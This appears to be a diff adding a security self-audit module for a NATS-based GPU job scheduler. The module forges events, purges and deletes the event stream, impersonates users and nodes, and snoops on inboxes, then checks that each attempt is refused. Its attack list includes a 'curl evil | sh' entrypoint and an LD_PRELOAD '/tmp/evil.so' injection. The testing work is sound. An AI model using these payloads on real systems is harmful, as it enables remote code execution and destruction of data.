@@ -1,0 +1,481 @@
+"""A security self-audit: the attacks of issue 20, run against a live installation.
+
+Each attack is what someone who can reach the NATS port would try with plain nats-py
+(nothing of shoal's client code): forge events, purge the log, delete a lease, act
+as another user, read another identity's replies, run a command of their choosing.
+:func:`run_audit` runs every attack, each on a connection of its own, and reports
+whether the server (or admission) **refused** it or the installation **accepted** it,
+judged by what happened, not by what was expected: a forged event counts as accepted
+when the log grew, a purge when the log shrank. It also runs the legitimate path (a
+user submits and cancels their own job; admission answers) so that a lock that
+refuses everything fails the audit too.
+
+``benchmarks/security.py`` runs it against ``shoal up`` and writes
+``benchmarks/reports/security.md``; ``tests/test_security.py`` asserts that every
+attack is refused and the legitimate path works.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import contextlib
+import json
+from collections.abc import Awaitable, Callable
+from typing import Any
+
+import msgspec
+import nats
+import nats.errors
+
+from shoal import codec
+from shoal import events as ev
+from shoal.auth import ADMIN_TOKEN, inbox_prefix, name_of_creds
+
+
+class Outcome(msgspec.Struct, frozen=True, kw_only=True):
+    attack: str
+    identity: str
+    """Who tried it: ``(none)`` for no credentials, else the identity's name."""
+    refused: bool
+    how: str
+    """How it was refused (the server's or admission's words) or what it changed."""
+
+
+class Target(msgspec.Struct, frozen=True, kw_only=True):
+    """The installation under audit and the credentials the attacks use."""
+
+    url: str
+    prefix: str
+    admin: str
+    """The admin's seed file: to observe the log (never to attack)."""
+    user: str
+    """A client identity's seed file (the attacker ``mallory``)."""
+    victim: str
+    """Another registered user, whose job the attacker goes after."""
+    node: str
+    """A node identity's seed file (a node that impersonates another)."""
+    mqtt_port: int | None = None
+    mqtt_user: str = ""
+    mqtt_password: str = ""
+
+
+class _Conn:
+    """A plain nats-py connection that records the server's permission errors."""
+
+    def __init__(self) -> None:
+        self.nc: Any = None
+        self.errors: list[str] = []
+
+    @classmethod
+    async def open(cls, url: str, creds: str | None) -> _Conn:
+        self = cls()
+
+        async def on_error(exc: Exception) -> None:
+            self.errors.append(str(exc))
+
+        kw: dict[str, Any] = {}
+        if creds:
+            kw = {"nkeys_seed": creds, "inbox_prefix": inbox_prefix(name_of_creds(creds))}
+        self.nc = await nats.connect(
+            url, error_cb=on_error, allow_reconnect=False, connect_timeout=2, max_reconnect_attempts=0, **kw
+        )
+        return self
+
+    async def violation(self, timeout_s: float = 2.0) -> str | None:
+        """The first permissions violation the server reported, waiting up to ``timeout_s``."""
+        with contextlib.suppress(Exception):
+            await self.nc.flush(timeout=timeout_s)
+        for _ in range(int(timeout_s / 0.05)):
+            hits = [e for e in self.errors if "permissions violation" in e.lower()]
+            if hits:
+                return hits[0].removeprefix("nats: ")
+            await asyncio.sleep(0.05)
+        return None
+
+    async def close(self) -> None:
+        with contextlib.suppress(Exception):
+            await self.nc.close()
+
+
+async def _log_size(t: Target, subjects: str | None = None) -> tuple[int, int]:
+    """(messages, last sequence) of the event log, read as the admin; with ``subjects``
+    (a filter), the messages on matching subjects instead of all (the installation's
+    own heartbeats and progress keep the log growing while the audit runs)."""
+    conn = await _Conn.open(t.url, t.admin)
+    try:
+        js = conn.nc.jetstream()
+        stream = f"{_token(t.prefix)}_EVENTS"
+        if subjects is None:
+            info = await js.stream_info(stream)
+            return int(info.state.messages), int(info.state.last_seq)
+        info = await js.stream_info(stream, subjects_filter=subjects)
+        return sum((info.state.subjects or {}).values()), 0
+    finally:
+        await conn.close()
+
+
+def _token(prefix: str) -> str:
+    from shoal.bus import Names
+
+    return Names(prefix).events_stream.removesuffix("_EVENTS")
+
+
+async def _forge(t: Target, creds: str | None, event: ev.Event) -> tuple[bool, str]:
+    """Publish ``event`` as-is on its subject; refused unless a message landed there."""
+    subject = codec_subject(t.prefix, event)
+    before = await _log_size(t, subject)
+    conn = await _Conn.open(t.url, creds)
+    try:
+        await conn.nc.publish(subject, codec.encode(codec.wrap(event)))
+        why = await conn.violation()
+    finally:
+        await conn.close()
+    after = await _log_size(t, subject)
+    if after[0] != before[0]:
+        return False, f"appended to {subject}"
+    return True, why or "not appended"
+
+
+def codec_subject(prefix: str, event: ev.Event) -> str:
+    return ev.subject_for(event, prefix)
+
+
+async def _js_api(t: Target, creds: str, subject: str, body: bytes = b"") -> tuple[bool, str]:
+    """Send a JetStream API request; refused unless it was answered without error and
+    the log lost messages."""
+    before = await _log_size(t)
+    conn = await _Conn.open(t.url, creds)
+    answer = ""
+    try:
+        try:
+            msg = await conn.nc.request(subject, body, timeout=2)
+            answer = msg.data.decode(errors="replace")[:120]
+        except (nats.errors.TimeoutError, nats.errors.NoRespondersError, TimeoutError):
+            pass
+        why = await conn.violation(0.5)
+    finally:
+        await conn.close()
+    after = await _log_size(t)
+    if after[0] < before[0]:
+        return False, f"log shrank from {before[0]} to {after[0]} messages"
+    if why:
+        return True, why
+    if '"error"' in answer:
+        return True, json.loads(answer).get("error", {}).get("description", answer)
+    return (not answer), answer or "no answer"
+
+
+async def _command(
+    t: Target, creds: str, command: str, sender: str, body: dict[str, Any]
+) -> tuple[bool, str]:
+    """A command on ``cmd.<command>.<sender>``: refused by the server or by admission,
+    unless the event it would cause landed in the log."""
+    caused = {"submit_job": "job.*.submitted", "cancel_job": "job.*.cancelled", "set_tickets": "user.*.>"}
+    watch = f"{t.prefix}.{caused[command]}"
+    before = await _log_size(t, watch)
+    conn = await _Conn.open(t.url, creds)
+    try:
+        try:
+            msg = await conn.nc.request(
+                f"{t.prefix}.cmd.{command}.{sender}",
+                json.dumps(body).encode(),
+                timeout=3,
+                headers={"Content-Type": "application/json"},
+            )
+            reply = json.loads(msg.data)
+        except (nats.errors.TimeoutError, nats.errors.NoRespondersError, TimeoutError):
+            reply = None
+        why = await conn.violation(0.5)
+    finally:
+        await conn.close()
+    after = await _log_size(t, watch)
+    if after[0] != before[0]:
+        return False, f"accepted: {reply}"
+    if reply is not None and reply.get("type") == "reply.rejected":
+        return True, f"admission: {reply['code']}"
+    return True, why or "no answer"
+
+
+async def _subscribe(t: Target, creds: str, subject: str) -> tuple[bool, str]:
+    conn = await _Conn.open(t.url, creds)
+    try:
+        await conn.nc.subscribe(subject)
+        why = await conn.violation()
+    finally:
+        await conn.close()
+    return (why is not None), why or "subscribed"
+
+
+async def _no_credentials(t: Target) -> tuple[bool, str]:
+    try:
+        conn = await _Conn.open(t.url, None)
+    except Exception as exc:
+        return True, f"connection refused: {exc or type(exc).__name__}"
+    await conn.close()
+    return False, "connected without credentials"
+
+
+async def _mqtt_other_topic(t: Target) -> tuple[bool, str]:
+    """An MQTT device of ``mqtt_user`` submits on the victim's topic."""
+    import aiomqtt
+
+    watch = f"{t.prefix}.job.*.submitted"
+    before = await _log_size(t, watch)
+    topic = f"{t.prefix.replace('.', '/')}/mqtt/submit/{t.victim}"
+    payload = json.dumps({"model": "resnet50", "total_iterations": 10, "job_id": "audit-mqtt"})
+    note = ""
+    try:
+        async with aiomqtt.Client(
+            "127.0.0.1",
+            t.mqtt_port or 0,
+            username=t.mqtt_user,
+            password=t.mqtt_password,
+            protocol=aiomqtt.ProtocolVersion.V311,
+        ) as mq:
+            await asyncio.wait_for(mq.publish(topic, payload, qos=1), 3)
+    except Exception as exc:  # the server drops the device on a denied publish
+        note = f"device disconnected: {type(exc).__name__}"
+    await asyncio.sleep(1.0)
+    after = await _log_size(t, watch)
+    if after[0] != before[0]:
+        return False, "job written for the victim"
+    return True, note or "not published"
+
+
+Attack = tuple[str, str, Callable[[Target], Awaitable[tuple[bool, str]]]]
+
+
+def attacks(t: Target) -> list[Attack]:
+    """(name, identity, run) of every attack, in the issue's order."""
+    user, node = name_of_creds(t.user), name_of_creds(t.node)
+    ev_prefix = _token(t.prefix)
+    lease_bucket = f"{ev_prefix}_LEASES_{3000}MS"  # the services' default 3 s lease
+    h100 = tuple(ev.GpuInfo(index=i, gpu_type="H100") for i in range(64))
+    out: list[Attack] = [
+        ("connect without credentials", "(none)", _no_credentials),
+        (
+            "forged JobCompleted for another user's job",
+            user,
+            lambda t: _forge(t, t.user, ev.JobCompleted(job_id="victim-job")),
+        ),
+        (
+            "forged SharesDecided giving one user every GPU",
+            user,
+            lambda t: _forge(t, t.user, ev.SharesDecided(epoch=10**6, shares={"mallory-job": 16})),
+        ),
+        (
+            "forged PlacementDecided",
+            user,
+            lambda t: _forge(t, t.user, ev.PlacementDecided(epoch=10**6, placements={})),
+        ),
+        (
+            "forged NodeRegistered with 64 H100s",
+            user,
+            lambda t: _forge(t, t.user, ev.NodeRegistered(node_id="fake-node", gpus=h100)),
+        ),
+        (
+            "node registers another node",
+            node,
+            lambda t: _forge(t, t.node, ev.NodeRegistered(node_id="fake-node", gpus=h100)),
+        ),
+        (
+            "node heartbeats for another node",
+            node,
+            lambda t: _forge(t, t.node, ev.NodeHeartbeat(node_id="other-node")),
+        ),
+        ("forged JobCancelled", user, lambda t: _forge(t, t.user, ev.JobCancelled(job_id="victim-job"))),
+        (
+            "forged TicketsSet (10^9 tickets)",
+            user,
+            lambda t: _forge(t, t.user, ev.TicketsSet(user=user.removeprefix("user-"), tickets=10**9)),
+        ),
+        ("forged NodeLost", user, lambda t: _forge(t, t.user, ev.NodeLost(node_id="node0"))),
+        (
+            "purge the event stream",
+            user,
+            lambda t: _js_api(t, t.user, f"$JS.API.STREAM.PURGE.{ev_prefix}_EVENTS", b"{}"),
+        ),
+        (
+            "delete the event stream",
+            user,
+            lambda t: _js_api(t, t.user, f"$JS.API.STREAM.DELETE.{ev_prefix}_EVENTS"),
+        ),
+        (
+            "node purges the event stream",
+            node,
+            lambda t: _js_api(t, t.node, f"$JS.API.STREAM.PURGE.{ev_prefix}_EVENTS", b"{}"),
+        ),
+        (
+            "delete the allocator's leader lease",
+            user,
+            lambda t: _js_api(t, t.user, f"$KV.{lease_bucket}.allocator", b""),
+        ),
+        (
+            "submit as another user (their command subject)",
+            user,
+            lambda t: _command(t, t.user, "submit_job", t.victim, _submit_body(t.victim)),
+        ),
+        (
+            "submit a job naming another user",
+            user,
+            lambda t: _command(t, t.user, "submit_job", user.removeprefix("user-"), _submit_body(t.victim)),
+        ),
+        (
+            "act as the admin (@admin)",
+            user,
+            lambda t: _command(
+                t, t.user, "set_tickets", ADMIN_TOKEN, {"type": "cmd.set_tickets", "user": "x", "tickets": 1}
+            ),
+        ),
+        (
+            "cancel another user's job",
+            user,
+            lambda t: _command(
+                t,
+                t.user,
+                "cancel_job",
+                user.removeprefix("user-"),
+                {"type": "cmd.cancel_job", "job_id": "victim-job"},
+            ),
+        ),
+        (
+            "set own tickets",
+            user,
+            lambda t: _command(
+                t,
+                t.user,
+                "set_tickets",
+                user.removeprefix("user-"),
+                {"type": "cmd.set_tickets", "user": user.removeprefix("user-"), "tickets": 10**9},
+            ),
+        ),
+        (
+            "run an arbitrary command (entrypoint) on every GPU node",
+            user,
+            lambda t: _command(
+                t,
+                t.user,
+                "submit_job",
+                user.removeprefix("user-"),
+                _submit_body(user.removeprefix("user-"), entrypoint=["sh", "-c", "curl evil | sh"]),
+            ),
+        ),
+        (
+            "inject code through the job's environment (LD_PRELOAD)",
+            user,
+            lambda t: _command(
+                t,
+                t.user,
+                "submit_job",
+                user.removeprefix("user-"),
+                _submit_body(user.removeprefix("user-"), env={"LD_PRELOAD": "/tmp/evil.so"}),
+            ),
+        ),
+        ("intercept admission's requests", user, lambda t: _subscribe(t, t.user, f"{t.prefix}.cmd.>")),
+        ("read other identities' replies", user, lambda t: _subscribe(t, t.user, "_INBOX.>")),
+    ]
+    if t.mqtt_port:
+        out.append(("MQTT device submits on another user's topic", t.mqtt_user, _mqtt_other_topic))
+    return out
+
+
+def _submit_body(user: str, **spec: Any) -> dict[str, Any]:
+    return {
+        "type": "cmd.submit_job",
+        "spec": {"user": user, "model": "resnet50", "max_gpus": 1, "total_iterations": 10, **spec},
+    }
+
+
+async def legitimate_path(t: Target) -> tuple[bool, str]:
+    """A user submits their own job and cancels it; the node daemon's heartbeats and
+    the admin's reads keep working. True when all of it did."""
+    from shoal.client import Client
+
+    async with await Client.connect(t.url, t.prefix, creds=t.user) as client:
+        job = await client.submit({"model": "resnet50", "max_gpus": 1, "total_iterations": 10**6})
+        reply = await client.cancel(job, reason="audit")
+        status = (await client.status(job)).status
+    ok = not reply.duplicate and status == "cancelled"
+    return ok, f"submitted {job} as {client.user}, cancelled: {status}"
+
+
+async def run_audit(t: Target) -> tuple[list[Outcome], tuple[bool, str]]:
+    """The victim's job ``victim-job`` (submitted as the admin), every attack of
+    :func:`attacks`, then the legitimate path."""
+    from shoal.client import Client, NoAdmissionError
+
+    async with await Client.connect(t.url, t.prefix, creds=t.admin, timeout_s=2.0) as admin:
+        victim = {"user": t.victim, "model": "resnet50", "max_gpus": 1, "total_iterations": 10**6}
+        for attempt in range(60):  # admission may still be starting
+            try:
+                await admin.submit(victim, job_id="victim-job")
+                break
+            except NoAdmissionError:
+                if attempt == 59:
+                    raise
+                await asyncio.sleep(1.0)
+    outcomes = []
+    for name, identity, run in attacks(t):
+        try:
+            refused, how = await run(t)
+        except Exception as exc:
+            refused, how = False, f"audit error: {type(exc).__name__}: {exc}"
+        outcomes.append(Outcome(attack=name, identity=identity, refused=refused, how=how))
+    return outcomes, await legitimate_path(t)
+
+
+@contextlib.contextmanager
+def local_installation(state_dir: str, *, nodes: int = 2, mqtt: bool = True) -> Any:
+    """Start ``shoal up`` (the command a user runs) on ``state_dir``, add the audit's
+    identities with ``shoal creds add`` (a user ``mallory`` with an MQTT password, a
+    user ``alice``), yield the :class:`Target`, then stop it (SIGTERM)."""
+    import os
+    import signal
+    import subprocess
+    import time
+    from pathlib import Path
+
+    from shoal.commands.run import CLI_ARGV
+
+    env = {k: v for k, v in os.environ.items() if not k.startswith(("SHOAL_", "NATS_"))}
+    env["SHOAL_STATE_DIR"] = state_dir
+    argv = [*CLI_ARGV, "up", "--nodes", str(nodes), "--time-scale", "10", *(["--mqtt"] if mqtt else [])]
+    err = open(Path(state_dir).parent / f"{Path(state_dir).name}-up.log", "w")  # noqa: SIM115
+    proc = subprocess.Popen(
+        argv, env=env, stdout=subprocess.PIPE, stderr=err, text=True, start_new_session=True
+    )
+    try:
+        lines: dict[str, str] = {}
+        deadline = time.monotonic() + 60
+        assert proc.stdout is not None
+        while "running" not in lines:
+            line = proc.stdout.readline()
+            if not line or time.monotonic() > deadline:
+                raise RuntimeError(f"shoal up did not start; log in {err.name}")
+            key, _, value = line.partition(":")
+            lines[key.strip() if value else line.split(";")[0].strip()] = value.strip()
+        for args in (["user", "mallory", "--mqtt-password", "mallory-pw"], ["user", "alice"]):
+            subprocess.run([*CLI_ARGV, "creds", "add", *args], env=env, check=True, capture_output=True)
+        creds = Path(state_dir) / "creds"
+        mqtt_port = int(lines["MQTT"].rsplit(":", 1)[1]) if "MQTT" in lines else None
+        time.sleep(0.5)  # the server reloads its configuration on the SIGHUP `creds add` sent
+        yield Target(
+            url=lines["NATS"],
+            prefix="shoal",
+            admin=str(creds / "admin.nk"),
+            user=str(creds / "user-mallory.nk"),
+            victim="alice",
+            node=str(creds / "node-node0.nk"),
+            mqtt_port=mqtt_port,
+            mqtt_user="mallory",
+            mqtt_password="mallory-pw",
+        )
+    finally:
+        if proc.poll() is None:
+            os.killpg(proc.pid, signal.SIGTERM)
+            try:
+                proc.wait(30)
+            except subprocess.TimeoutExpired:
+                os.killpg(proc.pid, signal.SIGKILL)
+                proc.wait()
+        err.close()
